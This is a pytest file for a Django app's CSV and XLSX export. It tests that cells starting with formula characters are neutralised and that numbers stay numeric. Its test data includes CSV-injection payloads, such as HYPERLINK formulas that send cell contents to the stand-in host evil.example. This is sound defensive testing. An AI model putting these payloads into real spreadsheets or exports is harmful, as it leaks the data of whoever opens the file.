"""CSV injection: text a spreadsheet would run as a formula is neutralised in both formats; numbers stay numbers."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from exports.cells import neutralise
from exports.writers import csv_write, xlsx_write
from tests.exports.conftest import body, csv_rows, xlsx_sheet
from tests.foia.factories import FoiaRequestFactory

LEADING = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [c + 'HYPERLINK("http://evil.example/?"&A1,"x")' for c in LEADING] + ["=1+1", "@SUM(A1:A2)", "-2+3"]


def written(fmt, rows, header=("A", "B")):
    out = io.BytesIO()
    (csv_write if fmt == "csv" else xlsx_write)(header, rows, out)
    return out.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_every_formula_start(payload):
    header, row = csv_rows(written("csv", [[payload, "plain"]]))
    assert row == ["'" + payload, "plain"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_neutralises_every_formula_start_and_stores_a_string(payload):
    sheet = xlsx_sheet(written("xlsx", [[payload, "plain"]]))
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == "'" + payload
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_a_header_is_neutralised_too():
    assert csv_rows(written("csv", [], header=("=cmd", "B")))[0] == ["'=cmd", "B"]


def test_text_that_only_contains_a_sign_later_is_kept_as_it_is():
    assert neutralise("ISAP - SmartLINK = app") == "ISAP - SmartLINK = app"
    assert neutralise("") == ""


@pytest.mark.parametrize("number", [-5, Decimal("-12.50"), -0.25])
def test_negative_numbers_stay_numbers(number):
    """A real number is never parsed as a formula, and a sum over the column must keep working: no quote."""
    assert csv_rows(written("csv", [[number, "x"]]))[1][0] == str(number)
    cell = xlsx_sheet(written("xlsx", [[number, "x"]]))["A2"]
    assert cell.data_type == "n" and cell.value == number


def test_negative_number_written_as_text_is_neutralised():
    assert csv_rows(written("csv", [["-5", "x"]]))[1][0] == "'-5"


def test_control_characters_xml_cannot_hold_are_dropped_from_xlsx_only():
    assert xlsx_sheet(written("xlsx", [["a\x00b\x1fc", "x"]]))["A2"].value == "abc"


def test_booleans_dates_and_empty_values():
    when = dt.datetime(2026, 11, 20, 9, 30)
    header, row = csv_rows(written("csv", [[True, False, None, dt.date(2026, 2, 1), when]], header="ABCDE"))
    assert row == ["Yes", "No", "", "2026-02-01", "2026-11-20 09:30:00"]
    sheet = xlsx_sheet(written("xlsx", [[True, None, dt.date(2026, 2, 1), when]], header="ABCD"))
    assert [c.value for c in sheet[2]] == ["Yes", None, dt.datetime(2026, 2, 1), when]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_request_subject_is_neutralised_in_the_export(client, world, fmt):
    FoiaRequestFactory(organization=world.ours, subject='=HYPERLINK("http://evil.example","click")')
    client.force_login(world.staff)
    content = body(client.get(reverse("exports:list", args=["requests", fmt])))
    if fmt == "csv":
        rows = csv_rows(content)
        assert rows[1][rows[0].index("Subject")] == "'" + '=HYPERLINK("http://evil.example","click")'
    else:
        sheet = xlsx_sheet(content)
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        assert "'=HYPERLINK(" in [c.value for c in sheet[2]][4]
